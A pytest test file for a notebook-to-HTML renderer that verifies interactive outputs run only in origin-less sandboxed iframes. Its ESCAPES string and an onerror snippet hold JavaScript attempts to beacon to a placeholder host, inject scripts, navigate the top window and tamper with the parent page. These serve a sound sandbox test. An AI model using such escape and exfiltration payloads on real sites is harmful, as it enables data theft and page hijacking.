"""Outputs that run: in frames without an origin and a network, and nowhere else."""

import base64
import json
import re
import socketserver
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
import saved_pages
from fetch_files import cases
from processes import wait_until
from watched import watch

from pagemill import article, inert, live, parts, plan, provenance, saved
from pagemill import page as render
from pagemill.extras.frames import Frames

PLOTLY = "application/vnd.plotly.v1+json"
NOTE = (
    '<p class="ct-note" role="note">An interactive view is not part of this page.</p>'
)
CHART = {PLOTLY: {"data": [{"y": [1, 2]}], "layout": {}}}


def notebook(*cells: list[dict[str, Any]]) -> nbformat.NotebookNode:
    """A notebook that was run: of each cell the data of its outputs."""
    made = []
    for data in cells:
        outputs = [
            nbformat.v4.new_output("display_data", data=output) for output in data
        ]
        made.append(nbformat.v4.new_code_cell("show()", outputs=outputs))
    return saved_pages.notebook(*made)


def read(
    folder: Path, *cells: list[dict[str, Any]], interactive: str = "sandboxed"
) -> tuple[str, list[str], list[str]]:
    """What stands on the page, what is lost, and what its frames are made of."""
    made = article.read(notebook(*cells), folder, "made", interactive)
    html = re.sub('<details class="code">.*?</details>\n', "", made.body, flags=re.S)
    documents = made.held.documents
    for name, text in made.held.libraries.items():
        documents = [
            re.sub(rf'(data-ct-library="{name}"[^>]*>)', rf"\1{text}", document)
            for document in documents
        ]
    documents = [document.replace(live.GUARD, "") for document in documents]
    return html, made.lost, documents


@pytest.fixture
def scripts(tmp_path: Path) -> Path:
    """A notebook's folder that has scripts of its own."""
    (tmp_path / "scripts").mkdir()
    (tmp_path / "scripts" / "plotly.min.js").write_text("var Plotly = 'held';")
    (tmp_path / "scripts" / "embed.js").write_text("var widgets = 'held';")
    return tmp_path


#: Outputs as libraries write them, and what of them must be in the frame.
RUNNING: dict[str, tuple[dict[str, Any], str]] = {
    "plotly": (CHART, "Plotly.newPlot('shown', made.data"),
    "altair": (
        {"text/html": "<div id=v></div><script>vegaEmbed(spec)</script>"},
        "<script>vegaEmbed(spec)</script>",
    ),
    "plotly's JSON": ({PLOTLY: {"data": "{0}"}}, '"data": "{0}"'),
    "a script": ({"application/javascript": "draw()"}, "<script>draw()</script>"),
    "folium": (
        {
            "text/html": '<iframe srcdoc="&lt;script&gt;map(&quot;x&quot;)&lt;/script&gt;">'
            "</iframe>"
        },
        '<script>map("x")</script>',
    ),
    "a widget": (
        {"application/vnd.jupyter.widget-view+json": {"model_id": "abc"}},
        '{"model_id": "abc"}',
    ),
}


@pytest.mark.parametrize("kind", RUNNING)
def test_what_runs_is_in_a_frame_and_not_on_the_page(kind, scripts):
    data, kept = RUNNING[kind]
    html, _, documents = read(scripts, [data])
    assert 'data-ct-frame="0"' in html
    assert not re.search("<script|<iframe", html)
    assert len(documents) == 1
    assert kept in documents[0]


def test_where_frames_are_asked_for_nobody_is_told_to_ask(tmp_path):
    data = {"application/json": {"a": 1}}
    html, lost, documents = read(tmp_path, [data])
    assert html == NOTE
    begun = "outputs that no page has a form for are left out, in the cells that begin"
    assert lost == [f"{begun} 'show()' (application/json): print them"]
    assert documents == []


def test_a_script_is_taken_from_the_folder_and_held_once(scripts):
    made = article.read(notebook([CHART], [CHART]), scripts, "made", "sandboxed")
    assert list(made.held.libraries.values()) == [f"{live.GUARD}var Plotly = 'held';"]
    assert all("data-ct-library" in document for document in made.held.documents)
    assert made.lost == []
    # A report is due when it changes.
    (scripts / "a.ipynb").write_text("{}")
    names = ["scripts/embed.js", "scripts/plotly.min.js"]
    assert [*provenance.helpers(scripts / "a.ipynb")] == names


def test_a_script_that_is_not_here_is_named_and_its_frame_is_not_blank(
    tmp_path,
):
    page = '<script src="https://example.org/leaf.js?v=1"></script><script>L()</script>'
    html, lost, documents = read(tmp_path, [{"text/html": page, "text/plain": "A map"}])
    assert lost[0] == (
        "the output of the cell that begins 'show()' lacks https://example.org/leaf.js?v=1:"
        " put such files into scripts/ beside the notebook"
    )
    assert documents == []
    assert html == f"<pre>A map</pre>{NOTE}"


PANEL = "application/vnd.holoviews_{}.v0+json"
ROOT = (
    '<div id="r" data-root-id="r" style="display: contents;"></div><script>1</script>'
)
#: Outputs that run, as libraries write them: what loads, what shows, and what of it is words.
STATIC: dict[str, tuple[list[dict[str, Any]], dict[str, Any], str]] = {
    "panel and hvplot": (
        [
            {"text/html": '<script type="esms-options">{}</script><style>a{}</style>'},
            {"application/javascript": "load()", PANEL.format("load"): "load()"},
            {PANEL.format("exec"): "", "text/html": ROOT},
        ],
        {PANEL.format("exec"): "", "text/html": ROOT, "text/plain": ":Curve [a]"},
        "<pre>:Curve [a]</pre>",
    ),
    "folium": (
        [],
        {
            "text/html": '<div><span style="color:#565656">Make this Notebook Trusted to load'
            ' map: File</span><iframe srcdoc="&lt;script&gt;m()&lt;/script&gt;"></iframe></div>',
            "text/plain": "<folium.folium.Map at 0x7f>",
        },
        "",
    ),
    "altair": (
        [],
        {
            "text/html": "<style>#v {width: 100%}</style><div id=v></div><script>v()</script>",
            "text/plain": "alt.Chart(...)",
        },
        "",
    ),
    "itables": (
        [
            {
                "text/html": "<script>const { set_or_remove_dark_class } = await window."
                "_itables_2;</script>"
            },
            {
                "text/html": "<script>load()</script><noscript>This is the <code>"
                "init_notebook_mode</code> cell from ITables v2</noscript>"
            },
        ],
        {
            "text/html": "<table hidden><tr><td>Loading</td></tr></table><table><tbody><tr><td>"
            "1</td></tr></tbody></table><script>t()</script>"
        },
        "<td>1</td>",
    ),
    "plotly": ([], CHART, ""),
    "data": ([], {"application/json": {"data": []}}, ""),
    "widgets": ([], {live.VIEW: {"model_id": "a"}, "text/plain": "IntSlider()"}, ""),
}


@pytest.mark.parametrize("kind", STATIC)
def test_what_runs_leaves_its_words_or_a_box_and_no_more(kind, tmp_path):
    """What only loads leaves nothing: five empty boxes stood above one chart of hvplot's."""
    loads, shows, words = STATIC[kind]
    html, lost, documents = read(tmp_path, loads, [shows], interactive="left out")
    assert (len(lost), documents) == (1, [])
    # How to have it is for its author, on the terminal.
    assert re.fullmatch(
        r"outputs that would run or load something are left out, in the cells that begin"
        r" 'show\(\)' \([a-z]+/[\w.+-]+\): interactive = \"sandboxed\" in the plan shows each in"
        r" a frame of its own",
        lost[0],
    )
    static, _, more = html.partition(NOTE)
    assert (more, bool(static)) == ("", bool(words))
    assert words in static


#: A box of widgets that only show something, in the state that a notebook keeps of them.
WIDGETS = {
    "box": {
        "model_name": "VBoxModel",
        "state": {"children": ["IPY_MODEL_a", "IPY_MODEL_b"]},
    },
    "a": {
        "model_name": "HTMLModel",
        "state": {"value": "<b>bold words</b><script>x()</script>"},
    },
    "b": {
        "model_name": "OutputModel",
        "state": {
            "outputs": [
                {
                    "output_type": "stream",
                    "name": "stdout",
                    "text": "inside an <output>",
                },
                {
                    "output_type": "display_data",
                    "data": {"text/html": "<i>a table</i>"},
                },
            ]
        },
    },
    "own": {"model_name": "VBoxModel", "state": {"children": ["IPY_MODEL_own"]}},
}


def test_a_widget_that_only_shows_something_is_what_it_shows(tmp_path):
    shown = [
        {live.VIEW: {"model_id": name}, "text/plain": "VBox()"}
        for name in ("box", "own")
    ]
    made = notebook(shown)
    made.metadata["widgets"] = {article._WIDGETS: {"state": WIDGETS}}
    page = article.read(made, tmp_path, "made", "left out")
    for words in (
        "<b>bold words</b>",
        "<pre>inside an &lt;output&gt;</pre>",
        "<i>a table</i>",
    ):
        assert words in page.body
    assert "x()" not in page.body
    # What it would do is not there, and that is said; a box in itself ends.
    assert page.body.count(NOTE) == 2


VL_CONVERT = """
def get_vegalite_versions():
    return ["4.17", "5.8", "5.21", "6.1"]

def vegalite_to_svg(chart, vl_version=""):
    if chart == {}:
        raise ValueError("no chart")
    return f'<svg xmlns="http://www.w3.org/2000/svg"><title>{vl_version}</title></svg>'
"""


def test_a_vega_lite_chart_is_a_picture_where_something_draws_it(tmp_path, monkeypatch):
    (tmp_path / "vl_convert.py").write_text(VL_CONVERT, "utf-8")
    monkeypatch.syspath_prepend(tmp_path)
    kind = "application/vnd.vegalite.v5+json"
    html, _, _ = read(tmp_path, [{kind: {"mark": "bar"}}], interactive="left out")
    (coded,) = re.findall('src="data:image/svg.xml;base64,([^"]+)"', html)
    # In the version of the notebook's own library.
    assert b"<title>5.21</title>" in base64.b64decode(coded)
    html, _, _ = read(tmp_path, [{kind: {}}], interactive="left out")
    assert "<img" not in html
    assert NOTE in html


def test_what_a_cell_loads_is_there_for_those_that_follow(tmp_path):
    """bokeh's `output_notebook()`; its chart is a place, and a script that fills it."""
    load = {
        "application/javascript": "LIBRARY",
        "application/vnd.bokehjs_load.v0+json": "",
    }
    place = {"text/html": '<div id="b"></div>'}
    html, _, documents = read(
        tmp_path, [load], [place, {"application/javascript": "fill()"}]
    )
    assert html.count("data-ct-frame") == 1
    body = documents[0].partition("<body>")[2]
    assert body.startswith(
        '<script>LIBRARY</script><div id="b"></div><script>fill()</script>'
    )


def test_the_static_form_is_there_where_no_script_runs(tmp_path):
    frame = {
        "text/html": "<table hidden><tr><td>Loading…</td></tr></table><script>t()</script>",
        "text/plain": "   a\n0  1",
    }
    html, _, _ = read(tmp_path, [frame])
    assert "<pre>   a\n0  1</pre>" in html


#: What would speak to another host, read what is not its own, or leave the frame. HOST listens.
ESCAPES = """
const reach = "http://HOST/", tries = [
  () => fetch(reach + "fetch"),
  () => { new Image().src = reach + "image"; },
  () => { const s = document.createElement("script"); s.src = reach + "x.js";
      document.body.append(s); },
  () => { new WebSocket("ws://HOST/socket"); },
  () => { new EventSource(reach + "events"); },
  () => navigator.sendBeacon(reach + "beacon", "x"),
  () => { new Worker(reach + "worker.js"); },
  () => { const f = document.createElement("iframe"); f.src = reach + "frame";
      document.body.append(f); },
  () => { for (const rel of ["stylesheet", "preload", "prefetch", "icon", "manifest"]) {
      const l = document.createElement("link"); l.rel = rel; l.href = reach + rel; l.as = "image";
      document.head.append(l); } },
  () => { document.body.insertAdjacentHTML("beforeend", `<img src="${reach}html"
      onerror="top.postMessage('handler', '*')"><video src="${reach}video"></video>
      <div style="background:url(${reach}style)">x</div>`); },
  () => { const f = document.createElement("form"); f.action = reach + "form";
      document.body.append(f); f.submit(); },
  () => { document.body.insertAdjacentHTML("beforeend",
      `<meta http-equiv="refresh" content="0;url=${reach}refresh">`); },
  () => import(reach + "module.js"),
  () => { open(reach + "window"); },
  () => { top.location = reach + "top"; },
  () => { parent.document.documentElement.dataset.pwned = "parent"; },
  () => { localStorage.x = 1; },
  // Its text is allowed, so it ran there too, and nothing had taken from it what follows.
  () => { const f = document.createElement("iframe");
      f.srcdoc = `<body><script>${document.currentScript.text}<\\/script>`;
      document.body.append(f); },
  () => { const p = new RTCPeerConnection({iceServers: [{urls: "stun:HOST"}]});
      p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); },
];
for (const one of tries) { try { Promise.resolve(one()).catch(() => {}); } catch { } }
top.postMessage(`canary ${origin}`, "*");
setTimeout(() => { location = reach + "leave"; }, 500);
"""


class Listener(socketserver.ThreadingTCPServer):
    """Whoever connects is noted."""

    heard: list[bytes]
    daemon_threads = True


@pytest.fixture
def listener() -> Iterator[Listener]:
    class Handler(socketserver.BaseRequestHandler):
        def handle(self):
            # Chromium may open a connection before it asks the policy, and then says nothing.
            if request := self.request.recv(60):
                heard.append(request)

    heard: list[bytes] = []
    with Listener(("127.0.0.1", 0), Handler) as server:
        server.heard = heard
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def made_page(tmp_path: Path, escapes: str) -> Path:
    folder = saved_pages.project(tmp_path).parent
    run = plan.make_run("wave", folder, {}, interactive="sandboxed")
    inputs = provenance.inputs(run, tmp_path)
    block = {"slug": run.slug, "inputs": inputs, "data_date": ""}
    html = f"<p>words</p><script>{escapes}</script>"
    nested = html.replace("&", "&amp;").replace('"', "&quot;")
    outputs: list[dict[str, Any]] = [
        {"text/html": html},
        {"text/html": f'<iframe srcdoc="{nested}"></iframe>'},
        {"application/javascript": escapes},
        {"text/html": f'<img src=x onerror="{RUN}"><script>1</script>'},
        {"text/html": f'<div data-ct-frame="0" id="{live.ID}"></div>'},
    ]
    file = tmp_path / f"{run.slug}.html"
    file.write_text(
        render.page(notebook(*[[output] for output in outputs]), run, block)
    )
    return file


RUN = "document.documentElement.dataset.pwned = 1"


#: Seconds that a page has on the slowest of machines.
PATIENCE = 600


@pytest.mark.browser
def test_nothing_leaves_a_frame_and_nothing_runs_outside(
    waves, tmp_path, browser, listener
):
    host = f"127.0.0.1:{listener.server_address[1]}"
    file = made_page(tmp_path, ESCAPES.replace("HOST", host))
    watched = watch(browser)
    page = watched.page
    # A line on the console is lost where its frame leaves at once; a message is not.
    page.add_init_script(
        "addEventListener('message', (e) => (window.told ??= []).push(e.data))"
    )
    watched.turn_to(file)

    def ran() -> list[str]:
        page.wait_for_timeout(100)  # the page goes on
        told = page.evaluate("window.told ?? []")
        return [text for text in told if "canary" in str(text)]

    wait_until(lambda: len(ran()) == 3, PATIENCE)
    page.wait_for_timeout(1200)
    # They do run, each without an origin, and none in a frame within.
    assert ran() == ["canary null"] * 3
    assert listener.heard == []
    assert page.evaluate("document.documentElement.dataset.pwned") is None
    assert page.url == file.as_uri()
    assert len(page.context.pages) == 1
    # The record, what is said to programs, what the frames hold, and the page's own.
    assert page.evaluate("document.scripts.length") == 4
    sandboxes = page.evaluate(
        "[...document.querySelectorAll('iframe')].map(e => e.sandbox.value)"
    )
    assert sandboxes == ["allow-scripts"] * 4
    page.context.close()


@pytest.mark.browser
def test_what_the_test_above_listens_for_is_heard(tmp_path, browser, listener):
    host = f"127.0.0.1:{listener.server_address[1]}"
    # A page that leaves at once may have asked for nothing else by then.
    stays = re.sub(r"f\.submit\(\);|(top\.)?location = .*?;|refresh", "", ESCAPES)
    bad = tmp_path / "bad.html"
    bad.write_text(f"<body><script>{stays.replace('HOST', host)}</script>")
    page = browser.new_context().new_page()
    page.goto(bad.as_uri(), wait_until="commit")
    tries = {b"/fetch", b"/image", b"/x.js", b"/beacon", b"/frame", b"/style"}

    def heard() -> set[bytes]:
        return {place for request in listener.heard for place in request.split()[1:2]}

    wait_until(lambda: tries <= heard(), PATIENCE)
    page.context.close()
    assert tries <= heard()


def test_a_page_says_whether_its_frames_are_its_own(waves, tmp_path):
    file = made_page(tmp_path, "1")
    page = saved.open_page(file)
    assert parts.strange(page) == []
    held = json.loads(parts._FRAMES.search(page.text)[1])  # type: ignore[index]
    assert set(held) == {"documents", "libraries"}
    guard = json.dumps(live.GUARD)[1:-1]
    script = f"\\u003cscript>{guard}2\\u003c/script>"
    file.write_text(page.text.replace("\\u003cp>words", script))
    assert parts.strange(saved.open_page(file)) == [
        "its policy is none that this version writes"
    ]


def test_only_scripts_that_look_whether_they_may_run_are_allowed():
    """What held data ran in a frame that an output made: its text was allowed as well."""
    held = Frames(None)
    held.add(
        "<script>a()</script><script type=module>b()</script><script type='text/plain'>c()"
        "</script><script TYPE='Text/JavaScript'>d()</script><script type=''>e()</script>"
    )
    begin, *scripts = held.held().scripts()
    assert "delete self.RTCPeerConnection" in begin
    assert scripts == [f"{live.GUARD}{name}()" for name in "abde"]


def test_a_policy_does_not_depend_on_the_order_of_scripts():
    """A page of bokeh's: its record holds libraries by name, not as they came."""
    assert live.policy_of(["b", "a", "b"]) == live.policy_of(["a", "b"])


#: CSS of an output, and what of it stays: a library's own variables, and none of the page's.
STYLES = r"""
#T_1 td {color: red} | .o #T_1 td {color: red}
a, + p, ~ q, b ~ c, d + e, :root {top: 0} | .o a, .o b ~ c, .o d + e, .o {top: 0}
:root {--sk-line: red} a {color: var(--sk-line)} | .o {--sk-line: red} .o a {color: var(--sk-line)}
a {--ct-ink: red} b {--CT-paper : red} c {--x: url(y)} d {--y: '\66'} |
a {--x: fixed; position: var(--x)} |
input {clip: rect(1px, 1px, 1px, 1px)} | .o input {clip: rect(1px, 1px, 1px, 1px)}
a {background: url(https://example.org)} |
a {position: fixed} |
@import 'x'; @media print {a {color: red}} b {left: 0} | .o b {left: 0}
a {} </style><script> | .o a {}
a:is(b, c) {color: red} d {color: blue} | .o d {color: blue}
"""


@pytest.mark.parametrize(("style", "kept"), cases(STYLES))
def test_a_style_reaches_only_its_own_output(style, kept):
    assert inert.own_rules(style, ".o").replace("\n", " ") == kept
